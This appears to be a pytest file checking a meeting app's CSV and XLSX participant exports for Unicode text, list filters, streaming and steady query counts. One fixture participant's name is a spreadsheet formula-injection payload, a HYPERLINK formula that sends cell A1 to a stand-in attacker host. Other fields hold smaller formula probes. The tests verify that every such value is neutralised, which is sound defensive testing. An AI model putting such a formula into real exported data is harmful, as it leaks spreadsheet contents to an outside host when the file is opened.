"""CSV and XLSX exports: every column, text intact, formulas neutralised; streamed, in the
same queries whatever the number of rows."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest
from sqlalchemy import insert, update

from meetapp.models import Participant
from meetapp.participants.exports import participants_csv, participants_xlsx

COLUMNS = [
    "name",
    "honorific",
    "email",
    "organisation",
    "position",
    "stakeholder_group",
    "country",
    "languages",
    "status",
    "attended",
    "registered_at",
    "needs",
]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _people(setup, make_participant):
    make_participant(
        setup.meeting,
        name="ស៊ុន សុខា",
        honorific="H.E.",
        email="sokha@example.kh",
        organisation="ក្រសួងបរិស្ថាន",
        position="Director",
        group_key="government",
        country="KH",
        languages=["km", "en"],
        attended=True,
        registered_at=datetime(2019, 2, 1, 2, 30, tzinfo=UTC),
        needs="Vegetarian",
    )
    make_participant(
        setup.meeting,
        name="山田 花子",
        email="hanako@example.jp",
        group_key="cso",
        languages=["ja"],
        status="waitlisted",
        registered_at=datetime(2019, 2, 2, tzinfo=UTC),
    )
    make_participant(
        setup.meeting,
        name=FORMULA,
        email="evil@example.org",
        organisation="+1 Corp",
        position="@admin",
        needs="-2+3",
        registered_at=datetime(2019, 2, 3, tzinfo=UTC),
    )


def test_csv_export(setup, make_participant):
    _people(setup, make_participant)
    response = setup.client.get(f"{setup.base}/participants.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert "mekong-2019-participants.csv" in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == COLUMNS
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert first == {
        "name": "ស៊ុន សុខា",
        "honorific": "H.E.",
        "email": "sokha@example.kh",
        "organisation": "ក្រសួងបរិស្ថាន",
        "position": "Director",
        "stakeholder_group": "government",
        "country": "KH",
        "languages": "km en",
        "status": "registered",
        "attended": "yes",
        "registered_at": "2019-02-01T09:30:00+07:00",
        "needs": "Vegetarian",
    }
    second = dict(zip(COLUMNS, rows[2], strict=True))
    assert (second["name"], second["status"], second["attended"]) == (
        "山田 花子",
        "waitlisted",
        "no",
    )
    assert second["stakeholder_group"] == "cso"
    evil = dict(zip(COLUMNS, rows[3], strict=True))
    for column in ("name", "organisation", "position", "needs"):
        assert evil[column][0] == "'", evil[column]
    assert evil["name"].startswith("'=HYPERLINK(")


def test_csv_export_follows_the_list_filters(setup, make_participant):
    _people(setup, make_participant)
    body = setup.client.get(f"{setup.base}/participants.csv?status=waitlisted").get_data()
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["山田 花子"]


def test_xlsx_export(setup, make_participant):
    _people(setup, make_participant)
    response = setup.client.get(f"{setup.base}/participants.xlsx")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == COLUMNS
    assert rows[1][0] == "ស៊ុន សុខា"
    assert rows[1][3] == "ក្រសួងបរិស្ថាន"
    assert rows[2][0] == "山田 花子"
    assert rows[1][10] == "2019-02-01T09:30:00+07:00"
    evil_row = next(row for row in sheet.iter_rows(min_row=2) if row[2].value == "evil@example.org")
    # Stored as text, not as a formula.
    assert evil_row[0].data_type == "s"
    assert evil_row[0].value == FORMULA
    assert evil_row[4].data_type == "s"
    assert evil_row[11].value == "-2+3"
    assert evil_row[11].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


def test_staff_may_download_exports(setup, make_user, new_client, make_participant):
    _people(setup, make_participant)
    staff = new_client(make_user("staff"))
    assert staff.get(f"{setup.base}/participants.csv").status_code == 200
    assert staff.get(f"{setup.base}/participants.xlsx").status_code == 200


def test_empty_meeting_exports_the_header(setup):
    body = setup.client.get(f"{setup.base}/participants.csv").get_data()
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [COLUMNS]


def test_exports_stream_many_rows_with_formulas_neutralised_in_each(setup):
    setup.bulk(3000)
    setup.db.session.execute(
        update(Participant)
        .where(Participant.meeting_id == setup.meeting.id)
        .values(organisation="=1+2", position="@SUM(A1)")
    )
    setup.db.session.commit()

    # Read as a server reads it: piece by piece, once the view has returned.
    response = setup.client.get(f"{setup.base}/participants.csv", buffered=False)
    assert response.is_streamed
    assert response.headers["Cache-Control"] == "private, no-store"
    assert "mekong-2019-participants.csv" in response.headers["Content-Disposition"]
    pieces = list(response.response)
    response.close()
    assert len(pieces) > 2
    body = b"".join(pieces)
    assert body.count("\ufeff".encode()) == 1
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == 3001
    assert {(row[3], row[4]) for row in rows[1:]} == {("'=1+2", "'@SUM(A1)")}
    assert [row[0] for row in rows[1:3]] == ["Bulk Person 00000", "Bulk Person 00001"]

    response = setup.client.get(f"{setup.base}/participants.xlsx", buffered=False)
    assert response.is_streamed
    assert response.headers["Cache-Control"] == "private, no-store"
    body = b"".join(response.response)
    response.close()
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    cells = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(cells) == 3000
    assert {(row[3], row[4]) for row in cells} == {("=1+2", "@SUM(A1)")}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_run_the_same_queries_whatever_the_number_of_participants(
    setup, count_queries, fmt
):
    counts = []
    for more in (3, 600):
        setup.bulk(more) if not counts else _bulk_more(setup, more)
        with count_queries() as counter:
            response = setup.client.get(f"{setup.base}/participants.{fmt}")
            assert response.status_code == 200
            response.get_data()
        counts.append(counter.count)
    assert counts[0] == counts[1], counts


def _bulk_more(setup, count):
    """`count` more participants, with addresses of their own."""
    setup.db.session.execute(
        insert(Participant),
        [
            {
                "meeting_id": setup.meeting.id,
                "name": f"More {n}",
                "email": f"more{n}@example.org",
                "email_normalized": f"more{n}@example.org",
                "registered_at": datetime(2019, 3, 1, tzinfo=UTC),
                "updated_at": datetime(2019, 3, 1, tzinfo=UTC),
            }
            for n in range(count)
        ],
    )
    setup.db.session.commit()


@pytest.mark.parametrize("export", [participants_csv, participants_xlsx])
def test_an_export_written_onto_a_file_is_the_download(setup, make_participant, tmp_path, export):
    _people(setup, make_participant)
    fmt = "csv" if export is participants_csv else "xlsx"
    downloaded = setup.client.get(f"{setup.base}/participants.{fmt}").get_data()
    path = tmp_path / f"export.{fmt}"
    with path.open("wb") as file:
        export(setup.meeting).write(file)
    if export is participants_csv:
        assert path.read_bytes() == downloaded
    else:
        written = openpyxl.load_workbook(path).active
        served = openpyxl.load_workbook(io.BytesIO(downloaded)).active
        assert list(written.iter_rows(values_only=True)) == list(served.iter_rows(values_only=True))
